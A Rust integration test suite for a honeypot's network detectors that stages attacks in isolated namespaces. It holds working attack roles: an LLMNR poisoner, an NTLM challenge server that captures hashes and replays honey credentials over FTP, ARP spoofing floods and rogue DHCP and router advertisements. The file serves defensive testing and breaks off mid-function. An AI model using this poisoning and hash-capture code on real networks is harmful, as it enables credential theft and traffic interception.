//! Network detectors in network namespaces this test creates: a node namespace and a
//! gateway namespace joined by a veth pair, so nothing leaves the machine. The detectors
//! run in a child process (this test binary again, under `ip netns exec`), as an agent
//! would on the node; the attackers run in the gateway namespace: a Responder-like LLMNR
//! poisoner written here, ARP spoofing frames written with the detectors' own packet
//! socket, and dnsmasq as a rogue DHCP server. Every namespace and process is removed by
//! the name or PID this test made.
//!
//! Needs root (`ip netns`), `ip` (iproute2), `setpriv` (util-linux) and `dnsmasq`
//! (Debian `dnsmasq-base`) for the DHCP test.

use honeybee_agent::services::detectors::{arp, capture, ntlm, ra};
use honeybee_agent::services::{Limits, ServiceManager};
use honeybee_agent::sink::EventSink;
use honeybee_proto::config::{
    DetectorOptions, FtpOptions, LoginPolicy, NodeConfig, ServiceConfig, ServiceKind,
};
use honeybee_proto::event::{EventKind, HoneyCredentialOffer, NetworkAlert};
use std::io::{BufRead, BufReader, Write};
use std::net::{Ipv4Addr, SocketAddr};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc as smpsc;
use std::time::{Duration, Instant};

const NODE_IP: &str = "10.77.0.2";
const GW_IP: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 1);
const EVIL_MAC: [u8; 6] = [0x02, 0xba, 0xd0, 0, 0, 0x66];
const WAIT: Duration = Duration::from_secs(20);
const ROLE: &str = "HB_DETECT_ROLE";

fn run(args: &[&str]) {
    let out = Command::new(args[0])
        .args(&args[1..])
        .output()
        .unwrap_or_else(|e| panic!("{args:?}: {e} (this test needs iproute2 and root)"));
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Two namespaces and a veth pair: `hbn0` (10.77.0.2/24, default route via .1) in the
/// node's, `hbg0` (10.77.0.1/24) in the gateway's. Deleted on drop.
struct Lab {
    node: String,
    gw: String,
    children: Vec<Child>,
}

impl Lab {
    fn new(tag: &str) -> Lab {
        let nonce: u32 = rand::random();
        let base = format!("hbdet-{}-{nonce:08x}-{tag}", std::process::id());
        let lab = Lab {
            node: format!("{base}-n"),
            gw: format!("{base}-g"),
            children: Vec::new(),
        };
        run(&["ip", "netns", "add", &lab.node]);
        run(&["ip", "netns", "add", &lab.gw]);
        for ns in [&lab.node, &lab.gw] {
            run(&["ip", "-n", ns, "link", "set", "lo", "up"]);
        }
        run(&[
            "ip", "-n", &lab.node, "link", "add", "hbn0", "type", "veth", "peer", "name", "hbg0",
            "netns", &lab.gw,
        ]);
        run(&[
            "ip",
            "-n",
            &lab.node,
            "addr",
            "add",
            "10.77.0.2/24",
            "dev",
            "hbn0",
        ]);
        run(&[
            "ip",
            "-n",
            &lab.gw,
            "addr",
            "add",
            "10.77.0.1/24",
            "dev",
            "hbg0",
        ]);
        run(&["ip", "-n", &lab.node, "link", "set", "hbn0", "up"]);
        run(&["ip", "-n", &lab.gw, "link", "set", "hbg0", "up"]);
        run(&[
            "ip",
            "-n",
            &lab.node,
            "route",
            "add",
            "default",
            "via",
            "10.77.0.1",
        ]);
        lab
    }

    fn gw_mac(&self) -> String {
        let out = Command::new("ip")
            .args([
                "netns",
                "exec",
                &self.gw,
                "cat",
                "/sys/class/net/hbg0/address",
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    }

    /// This test binary's child role `role` in namespace `ns`, optionally under `wrap`
    /// (a privilege-dropping command); returns its stdin and its stdout lines.
    fn child(
        &mut self,
        ns: &str,
        role: &str,
        env: &[(&str, String)],
        wrap: &[&str],
    ) -> (ChildStdin, smpsc::Receiver<String>) {
        let exe = std::env::current_exe().unwrap();
        let mut cmd = Command::new("ip");
        cmd.args(["netns", "exec", ns]).args(wrap).arg(exe).args([
            "--exact",
            "child",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ]);
        cmd.env(ROLE, role)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit());
        for (k, v) in env {
            cmd.env(k, v);
        }
        let mut c = cmd.spawn().expect("spawn child");
        let stdin = c.stdin.take().unwrap();
        let out = c.stdout.take().unwrap();
        let (tx, rx) = smpsc::channel();
        std::thread::spawn(move || {
            // Read to the end even when nobody listens any more, so that the child
            // never writes into a closed pipe.
            for line in BufReader::new(out).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        self.children.push(c);
        (stdin, rx)
    }

    fn node(
        &mut self,
        opts: DetectorOptions,
        wrap: &[&str],
    ) -> (ChildStdin, smpsc::Receiver<String>) {
        self.node_with(opts, Vec::new(), wrap)
    }

    /// The node with its detectors and `more` services beside them.
    fn node_with(
        &mut self,
        opts: DetectorOptions,
        more: Vec<ServiceConfig>,
        wrap: &[&str],
    ) -> (ChildStdin, smpsc::Receiver<String>) {
        let mut services = vec![ServiceConfig {
            name: "detectors".into(),
            listen: "0.0.0.0:0".parse().unwrap(),
            enabled: true,
            kind: ServiceKind::Detectors(opts),
        }];
        services.extend(more);
        let cfg = NodeConfig { services };
        cfg.validate().unwrap();
        let json = serde_json::to_string(&cfg).unwrap();
        let ns = self.node.clone();
        let (stdin, rx) = self.child(&ns, "node", &[("HB_DETECT_CFG", json)], wrap);
        wait_for(&rx, "the node's detectors to start", |l| l == "HBREADY");
        (stdin, rx)
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for c in &mut self.children {
            let _ = c.kill();
            let _ = c.wait();
        }
        for ns in [&self.node, &self.gw] {
            let _ = Command::new("ip").args(["netns", "del", ns]).status();
        }
    }
}

/// Waits for a line matching `pred`; panics after [`WAIT`].
fn wait_for(rx: &smpsc::Receiver<String>, what: &str, pred: impl Fn(&str) -> bool) -> String {
    let deadline = Instant::now() + WAIT;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok(l) if pred(&l) => return l,
            Ok(_) => {}
            Err(_) => panic!("timed out waiting for {what}"),
        }
    }
}

type Ev = (String, Option<SocketAddr>, EventKind);

fn event(line: &str) -> Option<Ev> {
    serde_json::from_str(line.strip_prefix("HBEVENT ")?).ok()
}

fn next_event(rx: &smpsc::Receiver<String>, what: &str) -> Ev {
    let l = wait_for(rx, what, |l| l.starts_with("HBEVENT "));
    event(&l).expect("event line")
}

/// Closes the node's stdin (it stops, reporting what is still open) and returns every
/// event it printed until it finished.
fn stop_node(stdin: ChildStdin, rx: &smpsc::Receiver<String>) -> Vec<Ev> {
    drop(stdin);
    let mut out = Vec::new();
    let deadline = Instant::now() + WAIT;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok(l) if l == "HBDONE" => return out,
            Ok(l) => out.extend(event(&l)),
            Err(_) => panic!("the node did not finish; events so far: {out:?}"),
        }
    }
}

fn alerts(evs: &[Ev], poisoning: bool) -> Vec<NetworkAlert> {
    evs.iter()
        .filter_map(|(_, _, k)| match k {
            EventKind::PoisoningDetected(a) if poisoning => Some(a.clone()),
            EventKind::NetworkAnomaly(a) if !poisoning => Some(a.clone()),
            _ => None,
        })
        .collect()
}

fn only(o: DetectorOptions) -> DetectorOptions {
    DetectorOptions {
        interface: "hbn0".into(),
        ..o
    }
}

fn off() -> DetectorOptions {
    DetectorOptions {
        poisoning: false,
        arp: false,
        dhcp: false,
        router_advertisements: false,
        incident_quiet_ms: 1_000,
        ..DetectorOptions::default()
    }
}

#[test]
fn llmnr_poisoner_is_reported_once() {
    let mut lab = Lab::new("llmnr");
    let gw = lab.gw.clone();
    let (_r_in, r_rx) = lab.child(&gw, "llmnr_responder", &[], &[]);
    wait_for(&r_rx, "the poisoner to listen", |l| l == "HBREADY");
    let (stdin, rx) = lab.node(
        only(DetectorOptions {
            poisoning: true,
            poisoning_interval_s: 1,
            ..off()
        }),
        &[],
    );
    // Three rounds answered: one incident all the same.
    wait_for(&r_rx, "three poisoned answers", |l| l == "HBANSWERED 3");
    let evs = stop_node(stdin, &rx);
    let p = alerts(&evs, true);
    assert_eq!(p.len(), 1, "{evs:?}");
    assert_eq!(p[0].ip, Some(GW_IP.into()));
    assert!(p[0].what.split(',').any(|w| w == "llmnr"), "{:?}", p[0]);
    // The third answer may still be in flight when the node stops.
    assert!(p[0].count >= 2, "{:?}", p[0]);
    assert!(p[0].detail.contains("llmnr answered for "), "{:?}", p[0]);
    assert_eq!(
        p[0].macs,
        vec![lab.gw_mac()],
        "the responder's MAC, from the neighbour table"
    );
    assert!(alerts(&evs, false).is_empty(), "{evs:?}");
}

/// The port of the test poisoner's HTTP NTLM server.
const NTLM_PORT: u16 = 8088;
/// Copies of each poisoned answer the flooding poisoner sends.
const FLOOD: u32 = 50;

#[test]
fn poisoner_is_offered_honey_credentials_once_and_their_use_is_an_auth_attempt() {
    let mut lab = Lab::new("honeycred");
    let gw = lab.gw.clone();
    let (mut r_in, r_rx) = lab.child(
        &gw,
        "ntlm_poisoner",
        &[("HB_DETECT_COUNT", FLOOD.to_string())],
        &[],
    );
    wait_for(&r_rx, "the poisoner to listen", |l| l == "HBREADY");
    let ftp = ServiceConfig {
        name: "ftp".into(),
        listen: format!("{NODE_IP}:2121").parse().unwrap(),
        enabled: true,
        kind: ServiceKind::Ftp(FtpOptions {
            login: LoginPolicy::Never,
            ..FtpOptions::default()
        }),
    };
    let (stdin, rx) = lab.node_with(
        only(DetectorOptions {
            poisoning: true,
            poisoning_interval_s: 1,
            honey_credentials: true,
            honey_credentials_port: NTLM_PORT,
            ..off()
        }),
        vec![ftp],
        &[],
    );
    // The node's AUTHENTICATE, as the poisoner read it: the honey user and domain.
    let got = wait_for(&r_rx, "the honey-credentials", |l| l.starts_with("HBNTLM "));
    let parts: Vec<&str> = got.split(' ').collect();
    let (user, domain, challenge, nt) = (parts[1], parts[2], parts[4], parts[5]);
    let offer: HoneyCredentialOffer = loop {
        if let (_, src, EventKind::HoneyCredentialsOffered(o)) =
            next_event(&rx, "the offer's event")
        {
            assert_eq!(src.map(|s| s.ip()), Some(GW_IP.into()));
            break o;
        }
    };
    assert_eq!(offer.outcome, "sent", "{offer:?}");
    assert_eq!(offer.protocol, "http-ntlm");
    assert_eq!(
        (offer.username.as_str(), offer.domain.as_str()),
        (user, domain)
    );
    assert_eq!(offer.responder, std::net::IpAddr::from(GW_IP));
    // What a poisoner cracks is the password the event records.
    let hex = |s: &str| -> Vec<u8> {
        (0..s.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect()
    };
    let challenge: [u8; 8] = hex(challenge).try_into().unwrap();
    assert!(
        ntlm::verify_ntlmv2(&hex(nt), &challenge, user, domain, &offer.password),
        "the NTLMv2 response is the honey password's"
    );
    // More rounds, each answered FLOOD times: still the one offer.
    wait_for(&r_rx, "five more poisoned rounds", |l| {
        l == format!("HBANSWERED {}", 6 * FLOOD)
    });
    // The attacker tries the cracked credentials on the node's FTP server.
    writeln!(r_in, "LOGIN {user} {}", offer.password).unwrap();
    wait_for(&r_rx, "the FTP login to be refused", |l| l == "HBLOGIN 530");
    writeln!(r_in, "COUNT").unwrap();
    let conns = wait_for(&r_rx, "the poisoner's count", |l| l.starts_with("HBCONNS "));
    assert_eq!(conns, "HBCONNS 1", "one offer for a flood of answers");
    let evs = stop_node(stdin, &rx);
    let offers = evs
        .iter()
        .filter(|(_, _, k)| matches!(k, EventKind::HoneyCredentialsOffered(_)))
        .count();
    assert_eq!(offers, 0, "no second offer after the first: {evs:?}");
    let login = evs
        .iter()
        .find_map(|(svc, src, k)| match k {
            EventKind::AuthAttempt(a) if svc == "ftp" => Some((src, a.clone())),
            _ => None,
        })
        .expect("the FTP login attempt");
    assert_eq!(login.1.username, user);
    assert_eq!(login.1.password.as_deref(), Some(offer.password.as_str()));
    assert_eq!(login.0.map(|s| s.ip()), Some(GW_IP.into()));
}

#[test]
fn darknet_claims_only_an_unheld_address_and_reports_probes_to_it() {
    let mut lab = Lab::new("darknet");
    // 10.77.0.51 is held by the gateway's host; 10.77.0.50 by nobody.
    run(&[
        "ip",
        "-n",
        &lab.gw,
        "addr",
        "add",
        "10.77.0.51/24",
        "dev",
        "hbg0",
    ]);
    let (stdin, rx) = lab.node(
        only(DetectorOptions {
            darknet: true,
            darknet_range: "10.77.0.50-10.77.0.51".into(),
            ..off()
        }),
        &[],
    );
    let gw = lab.gw.clone();
    let (_p_in, p_rx) = lab.child(&gw, "darknet_prober", &[], &[]);
    wait_for(
        &p_rx,
        "the node to answer for 10.77.0.50 and the probes to go",
        |l| l == "HBPROBED",
    );
    let lines: Vec<String> = p_rx.try_iter().collect();
    let evs = stop_node(stdin, &rx);
    assert!(
        !lines.iter().any(|l| l.starts_with("HBSTOLEN")),
        "the node answered for the held address: {lines:?}"
    );
    let a: Vec<NetworkAlert> = alerts(&evs, false)
        .into_iter()
        .filter(|a| a.what == "darknet")
        .collect();
    assert_eq!(a.len(), 1, "{evs:?}");
    assert_eq!(a[0].ip, Some(GW_IP.into()));
    assert!(a[0].count >= 2, "{:?}", a[0]);
    assert!(a[0].detail.contains("10.77.0.50:445/tcp"), "{:?}", a[0]);
    assert!(a[0].detail.contains("10.77.0.50:161/udp"), "{:?}", a[0]);
    assert!(!a[0].detail.contains("10.77.0.51"), "{:?}", a[0]);
}

#[test]
fn gateway_arp_spoof_is_one_incident_and_a_flood_one_with_a_count() {
    let mut lab = Lab::new("arp");
    // The node has talked to its gateway: the kernel knows the real MAC.
    run(&[
        "ip",
        "netns",
        "exec",
        &lab.node,
        "ping",
        "-c",
        "1",
        "-W",
        "5",
        "10.77.0.1",
    ]);
    let (stdin, rx) = lab.node(only(DetectorOptions { arp: true, ..off() }), &[]);
    let gw = lab.gw.clone();
    let spoof = |lab: &mut Lab, n: u32| {
        let (_i, s_rx) = lab.child(&gw, "arp_spoof", &[("HB_DETECT_COUNT", n.to_string())], &[]);
        wait_for(&s_rx, "the spoofer to send", |l| l.starts_with("HBSENT "));
    };
    spoof(&mut lab, 1);
    let (_, src, kind) = next_event(&rx, "the spoof incident");
    let EventKind::NetworkAnomaly(a) = kind else {
        panic!("{kind:?}")
    };
    assert_eq!((a.what.as_str(), a.count), ("arp_spoof", 1), "{a:?}");
    assert_eq!(a.ip, Some(GW_IP.into()));
    assert_eq!(src, Some(SocketAddr::new(GW_IP.into(), 0)));
    assert_eq!(a.macs, vec!["02:ba:d0:00:00:66".to_owned()]);
    assert_eq!(a.expected, Some(lab.gw_mac()));
    // A flood: one incident, its count (some frames may be dropped by the rate cap or
    // the socket buffer, never reported one by one).
    spoof(&mut lab, 500);
    let (_, _, kind) = next_event(&rx, "the flood incident");
    let EventKind::NetworkAnomaly(f) = kind else {
        panic!("{kind:?}")
    };
    assert_eq!(f.what, "arp_spoof", "{f:?}");
    assert!(f.count > 1 && f.count <= 500, "{f:?}");
    let rest = stop_node(stdin, &rx);
    assert!(alerts(&rest, false).is_empty(), "nothing more: {rest:?}");
}

/// A flood far over the frame-rate cap: the detector reads at most its cap, the kernel
/// drops the rest and counts it, and the whole flood is still one incident.
#[test]
fn arp_flood_over_the_frame_cap_is_bounded_and_counted() {
    let mut lab = Lab::new("flood");
    run(&[
        "ip",
        "netns",
        "exec",
        &lab.node,
        "ping",
        "-c",
        "1",
        "-W",
        "5",
        "10.77.0.1",
    ]);
    let (stdin, rx) = lab.node(
        only(DetectorOptions {
            arp: true,
            max_frames_per_s: 10,
            incident_quiet_ms: 60_000,
            ..off()
        }),
        &[],
    );
    let gw = lab.gw.clone();
    let (_i, s_rx) = lab.child(&gw, "arp_spoof", &[("HB_DETECT_COUNT", "5000".into())], &[]);
    wait_for(&s_rx, "the spoofer to send", |l| l.starts_with("HBSENT "));
    let evs = stop_node(stdin, &rx);
    let a = alerts(&evs, false);
    assert_eq!(a.len(), 1, "{evs:?}");
    assert_eq!(a[0].what, "arp_spoof");
    // At most the cap a second was read (the test lasts seconds, not minutes).
    assert!((1..=100).contains(&a[0].count), "{:?}", a[0]);
    let dropped: Vec<u64> = evs
        .iter()
        .filter_map(|(_, _, k)| match k {
            EventKind::LimitReached { detail, .. } => detail
                .strip_prefix("arp: ")?
                .split(' ')
                .next()?
                .parse()
                .ok(),
            _ => None,
        })
        .collect();
    assert_eq!(dropped.len(), 1, "{evs:?}");
    assert!(dropped[0] > 1000, "{evs:?}");
}

#[test]
fn rogue_dhcp_server_is_reported() {
    let dnsmasq = ["/usr/sbin/dnsmasq", "/usr/bin/dnsmasq"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .expect("dnsmasq is needed (Debian package dnsmasq-base)");
    let mut lab = Lab::new("dhcp");
    let dir = tempfile::tempdir().unwrap();
    let leases = dir.path().join("leases");
    let mut server = Command::new("ip")
        .args(["netns", "exec", &lab.gw, dnsmasq])
        .args([
            "--keep-in-foreground",
            "--conf-file=/dev/null",
            "--no-resolv",
            "--no-hosts",
            "--port=0",
            "--interface=hbg0",
            "--bind-interfaces",
            "--dhcp-range=10.77.0.100,10.77.0.150,255.255.255.0,2m",
            "--dhcp-option=3,10.77.0.1",
            "--no-ping",
            "--user=root",
            "--log-dhcp",
            "--log-facility=-",
        ])
        .arg(format!("--dhcp-leasefile={}", leases.display()))
        .arg(format!("--pid-file={}", dir.path().join("pid").display()))
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start dnsmasq");
    let (tx, log) = smpsc::channel();
    let err = server.stderr.take().unwrap();
    std::thread::spawn(move || {
        for l in BufReader::new(err).lines().map_while(Result::ok) {
            let _ = tx.send(l);
        }
    });
    lab.children.push(server);
    let (stdin, rx) = lab.node(
        only(DetectorOptions {
            dhcp: true,
            // The office's own server is elsewhere: dnsmasq is the rogue.
            dhcp_servers: vec![Ipv4Addr::new(10, 77, 0, 250)],
            dhcp_probe_s: 1,
            incident_quiet_ms: 10_000,
            ..off()
        }),
        &[],
    );
    // Two offers (a probe a second): the first one has surely been read by now.
    wait_for(&log, "dnsmasq to offer", |l| l.contains("DHCPOFFER(hbg0)"));
    wait_for(&log, "dnsmasq to offer again", |l| {
        l.contains("DHCPOFFER(hbg0)")
    });
    let evs = stop_node(stdin, &rx);
    let all = alerts(&evs, false);
    assert_eq!(all.len(), 1, "one incident: {evs:?}");
    let a = &all[0];
    assert_eq!(a.what, "rogue_dhcp", "{a:?}");
    assert_eq!(a.ip, Some(GW_IP.into()));
    assert_eq!(a.macs, vec![lab.gw_mac()]);
    assert_eq!(a.expected.as_deref(), Some("10.77.0.250"));
    assert!(a.detail.contains("offer of 10.77.0.1"), "{a:?}");
    assert!(a.detail.contains("router 10.77.0.1"), "{a:?}");
    assert!(a.count >= 2, "{a:?}");
}

#[test]
fn rogue_router_advertisement_is_reported() {
    let mut lab = Lab::new("ra");
    let (stdin, rx) = lab.node(
        only(DetectorOptions {
            router_advertisements: true,
            routers: vec!["fe80::1".parse().unwrap()],
            ..off()
        }),
        &[],
    );
    let gw = lab.gw.clone();
    let (_i, s_rx) = lab.child(&gw, "rogue_ra", &[], &[]);
    wait_for(&s_rx, "the rogue router to advertise", |l| {
        l.starts_with("HBSENT ")
    });
    let (_, _, kind) = next_event(&rx, "the rogue router incident");
    let rest = stop_node(stdin, &rx);
    let EventKind::NetworkAnomaly(a) = kind else {
        panic!("{kind:?}")
    };
    assert_eq!(a.what, "rogue_router_advertisement");
    assert_eq!(a.ip, Some("fe80::66".parse().unwrap()));
    assert_eq!(a.count, 3);
    assert_eq!(a.macs, vec!["02:ba:d0:00:00:66".to_owned()]);
    assert!(
        a.detail
            .contains("prefixes 2001:db8:bad::/64, dns 2001:db8:bad::53"),
        "{a:?}"
    );
    assert!(alerts(&rest, false).is_empty(), "one incident: {rest:?}");
}

/// A rogue router that only answers solicitations (silent otherwise) is found at start:
/// the detector sends one router solicitation.
#[test]
fn rogue_router_answering_the_start_solicitation_is_reported() {
    let mut lab = Lab::new("rs");
    let gw = lab.gw.clone();
    let (_i, r_rx) = lab.child(&gw, "ra_responder", &[], &[]);
    wait_for(&r_rx, "the rogue router to listen", |l| l == "HBREADY");
    let (stdin, rx) = lab.node(
        only(DetectorOptions {
            router_advertisements: true,
            routers: vec!["fe80::1".parse().unwrap()],
            ..off()
        }),
        &[],
    );
    wait_for(&r_rx, "a solicitation answered", |l| l == "HBANSWERED");
    let (_, _, kind) = next_event(&rx, "the rogue router incident");
    let _ = stop_node(stdin, &rx);
    let EventKind::NetworkAnomaly(a) = kind else {
        panic!("{kind:?}")
    };
    assert_eq!(a.what, "rogue_router_advertisement");
    assert_eq!(a.ip, Some("fe80::66".parse().unwrap()));
}

#[test]
fn without_cap_net_raw_capture_detectors_say_they_are_off() {
    let mut lab = Lab::new("nocap");
    let (stdin, rx) = lab.node(
        only(DetectorOptions {
            poisoning_interval_s: 3600,
            ..DetectorOptions::default()
        }),
        &["setpriv", "--bounding-set=-net_raw"],
    );
    let evs = stop_node(stdin, &rx);
    let mut off: Vec<String> = evs
        .iter()
        .filter_map(|(_, _, k)| match k {
            EventKind::ServiceError { message } => Some(message.clone()),
            _ => None,
        })
        .collect();
    off.sort();
    assert_eq!(off.len(), 3, "{evs:?}");
    for (m, d) in off.iter().zip(["arp", "dhcp", "router_advertisements"]) {
        assert!(
            m.starts_with(&format!(
                "{d} detector off: reading frames needs CAP_NET_RAW"
            )),
            "{m}"
        );
    }
}

// ---- The child roles, run by the tests above through `ip netns exec`. ----

/// Not a test of its own: the role named by `HB_DETECT_ROLE` (nothing without it).
#[test]
#[ignore = "a child process of the namespace tests"]
fn child() {
    let Ok(role) = std::env::var(ROLE) else {
        return;
    };
    match role.as_str() {
        "node" => node_child(),
        "llmnr_responder" => llmnr_responder(),
        "ntlm_poisoner" => ntlm_poisoner(),
        "darknet_prober" => darknet_prober(),
        "arp_spoof" => arp_spoof(),
        "rogue_ra" => rogue_ra(),
        "ra_responder" => ra_responder(),
        other => panic!("unknown role {other}"),
    }
}

fn say(line: &str) {
    let mut o = std::io::stdout().lock();
    // On a line of its own: libtest has written "test child ... " before it.
    let _ = writeln!(o, "\n{line}");
    let _ = o.flush();
}

/// The node: a service manager running the configured detectors until stdin closes;
/// every event printed as `HBEVENT <json>`, then `HBDONE`.
fn node_child() {
    let cfg: NodeConfig = serde_json::from_str(&std::env::var("HB_DETECT_CFG").unwrap()).unwrap();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async move {
        let (sink, mut rx) = EventSink::channel(1024);
        let dir = tempfile::tempdir().unwrap();
        let mut mgr = ServiceManager::new(sink, dir.path().to_path_buf(), Limits::default());
        mgr.apply(&cfg).await;
        for s in mgr.status() {
            assert!(s.running, "{s:?}");
        }
        say("HBREADY");
        let (eof_tx, mut eof) = tokio::sync::oneshot::channel::<()>();
        std::thread::spawn(move || {
            let mut sink = Vec::new();
            let _ = std::io::Read::read_to_end(&mut std::io::stdin(), &mut sink);
            let _ = eof_tx.send(());
        });
        let print = |e: honeybee_agent::sink::NewEvent| {
            let line = serde_json::to_string(&(e.service, e.src, e.kind)).unwrap();
            say(&format!("HBEVENT {line}"));
        };
        loop {
            tokio::select! {
                _ = &mut eof => break,
                Some(e) = rx.recv() => print(e),
            }
        }
        mgr.shutdown().await;
        while let Some(e) = rx.recv().await {
            print(e);
        }
        say("HBDONE");
    });
}

/// A Responder-like poisoner: answers every LLMNR query, whatever the name, with its own
/// address; prints `HBANSWERED n` after each answer.
fn llmnr_responder() {
    let s = std::net::UdpSocket::bind("0.0.0.0:5355").unwrap();
    s.join_multicast_v4(&Ipv4Addr::new(224, 0, 0, 252), &GW_IP)
        .unwrap();
    say("HBREADY");
    let mut buf = [0u8; 1500];
    let mut n = 0;
    while let Ok((len, from)) = s.recv_from(&mut buf) {
        let q = &buf[..len];
        if len < 12 || q[2] & 0x80 != 0 {
            continue;
        }
        let mut a = q.to_vec();
        a[2] |= 0x80;
        a[7] = 1;
        a.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4]);
        a.extend_from_slice(&GW_IP.octets());
        s.send_to(&a, from).unwrap();
        n += 1;
        say(&format!("HBANSWERED {n}"));
    }
}

/// A Responder-like poisoner with an HTTP NTLM server: answers every LLMNR query
/// `HB_DETECT_COUNT` times (a flood of poisoned answers), asks every HTTP client for
/// NTLM and prints each AUTHENTICATE as `HBNTLM user domain workstation challenge nt`
/// (hex). On stdin: `LOGIN user pass` tries them on the node's FTP server (`HBLOGIN
/// code`), `COUNT` prints `HBCONNS n`, the HTTP connections so far.
fn ntlm_poisoner() {
    use std::io::Read;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicU32, Ordering};
    let flood: u32 = std::env::var("HB_DETECT_COUNT").unwrap().parse().unwrap();
    let u = std::net::UdpSocket::bind("0.0.0.0:5355").unwrap();
    u.join_multicast_v4(&Ipv4Addr::new(224, 0, 0, 252), &GW_IP)
        .unwrap();
    let http = std::net::TcpListener::bind((GW_IP, NTLM_PORT)).unwrap();
    let conns = Arc::new(AtomicU32::new(0));
    let c2 = Arc::clone(&conns);
    std::thread::spawn(move || {
        for s in http.incoming() {
            let Ok(mut s) = s else { continue };
            c2.fetch_add(1, Ordering::SeqCst);
            s.set_read_timeout(Some(WAIT)).unwrap();
            let challenge: [u8; 8] = rand::random();
            let mut buf = Vec::new();
            let mut heads = 0;
            loop {
                let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
                    let mut c = [0u8; 4096];
                    match s.read(&mut c) {
                        Ok(n) if n > 0 => buf.extend_from_slice(&c[..n]),
                        _ => break,
                    }
                    continue;
                };
                let head = String::from_utf8_lossy(&buf[..i]).into_owned();
                buf.drain(..i + 4);
                heads += 1;
                let token = head
                    .lines()
                    .find_map(|l| l.strip_prefix("Authorization: NTLM "))
                    .map(|t| {
                        use base64::Engine;
                        base64::engine::general_purpose::STANDARD
                            .decode(t.trim())
                            .unwrap()
                    });
                let answer = match token {
                    None => "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: NTLM\r\nContent-Length: 0\r\n\r\n".to_owned(),
                    Some(t) if t[8] == 1 => {
                        let mut m = b"NTLMSSP\0".to_vec();
                        m.extend_from_slice(&2u32.to_le_bytes());
                        m.extend_from_slice(&[6, 0, 6, 0, 56, 0, 0, 0]);
                        m.extend_from_slice(&0xe289_8215u32.to_le_bytes());
                        m.extend_from_slice(&challenge);
                        m.extend_from_slice(&[0; 8]);
                        m.extend_from_slice(&[14, 0, 14, 0, 62, 0, 0, 0]);
                        m.extend_from_slice(&[10, 0, 0x65, 0x4a, 0, 0, 0, 15]);
                        m.extend_from_slice(b"S\0M\0B\0");
                        m.extend_from_slice(b"\x02\x00\x06\x00S\0M\0B\0\x00\x00\x00\x00");
                        use base64::Engine;
                        format!(
                            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: NTLM {}\r\nContent-Length: 0\r\n\r\n",
                            base64::engine::general_purpose::STANDARD.encode(m)
                        )
                    }
                    Some(t) => {
                        let (user, domain, ws, nt) = ntlm::parse_authenticate(&t).unwrap();
                        let h: String = nt.iter().map(|b| format!("{b:02x}")).collect();
                        let c: String = challenge.iter().map(|b| format!("{b:02x}")).collect();
                        say(&format!("HBNTLM {user} {domain} {ws} {c} {h}"));
                        "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".to_owned()
                    }
                };
                if s.write_all(answer.as_bytes()).is_err() || heads >= 3 {
                    break;
                }
            }
        }
    });
    std::thread::spawn(move || {
        let mut buf = [0u8; 1500];
        let mut n = 0;
        while let Ok((len, from)) = u.recv_from(&mut buf) {
            let q = &buf[..len];
            if len < 12 || q[2] & 0x80 != 0 {
                continue;
            }
            let mut a = q.to_vec();
            a[2] |= 0x80;
            a[7] = 1;
            a.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4]);
            a.extend_from_slice(&GW_IP.octets());
            for _ in 0..flood {
                let _ = u.send_to(&a, from);
                n += 1;
            }
            say(&format!("HBANSWERED {n}"));
        }
    });
    say("HBREADY");
    for line in std::io::stdin().lines().map_while(Result::ok) {
        let words: Vec<&str> = line.split(' ').collect();
        match words.as_slice() {
            ["LOGIN", user, pass] => {
                let node: Ipv4Addr = NODE_IP.parse().unwrap();
                let s = std::net::TcpStream::connect((node, 2121)).unwrap();
                s.set_read_timeout(Some(WAIT)).unwrap();
                let mut r = BufReader::new(s.try_clone().unwrap());
                let mut w = s;
                let mut l = String::new();
                r.read_line(&mut l).unwrap();
                write!(w, "USER {user}\r\n").unwrap();
                l.clear();
                r.read_line(&mut l).unwrap();
                write!(w, "PASS {pass}\r\n").unwrap();
                l.clear();
                r.read_line(&mut l).unwrap();
                say(&format!("HBLOGIN {}", &l[..3.min(l.len())]));
            }
            ["COUNT"] => say(&format!("HBCONNS {}", conns.load(Ordering::SeqCst))),
            _ => {}
        }
    }
}

/// Probes 10.77.0.50 (TCP 445, UDP 161) until the node answers ARP for it, then three
/// times more (`HBPROBED`); asks for 10.77.0.51 (this host's own) from the side and prints
/// `HBSTOLEN` should any other MAC answer for it.
fn darknet_prober() {
    let s = gw_socket(capture::ETH_P_ARP);
    let own_mac: [u8; 6] = {
        let t = std::fs::read_to_string("/sys/class/net/hbg0/address").unwrap();
        let v: Vec<u8> = t
            .trim()
            .split(':')
            .map(|h| u8::from_str_radix(h, 16).unwrap())
            .collect();
        v.try_into().unwrap()
    };
    let dark: Ipv4Addr = "10.77.0.50".parse().unwrap();
    let held: Ipv4Addr = "10.77.0.51".parse().unwrap();
    let udp = std::net::UdpSocket::bind((GW_IP, 0)).unwrap();
    let mut claimed = false;
    let mut after = 0;
    let mut buf = [0u8; 2048];
    for _ in 0..120 {
        let _ = std::net::TcpStream::connect_timeout(
            &SocketAddr::from((dark, 445)),
